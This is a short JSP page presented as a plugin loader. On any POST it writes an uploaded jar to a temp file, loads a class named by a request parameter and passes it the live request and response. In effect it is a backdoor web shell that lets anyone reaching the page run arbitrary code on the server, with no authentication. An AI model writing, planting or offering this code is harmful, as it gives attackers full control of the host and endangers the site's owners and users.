<%@ page import="java.io.*,java.net.*,javax.servlet.http.Part" %>
<%
    if ("POST".equals(request.getMethod())) {
        Part part = request.getPart("lib");
        File tmp = File.createTempFile("plugin", ".jar");
        part.write(tmp.getAbsolutePath());
        URLClassLoader ucl = new URLClassLoader(new URL[]{tmp.toURI().toURL()});
        Object plugin = ucl.loadClass(request.getParameter("main")).getDeclaredConstructor().newInstance();
        out.println(plugin.equals(new Object[]{request, response}));
    }
%>
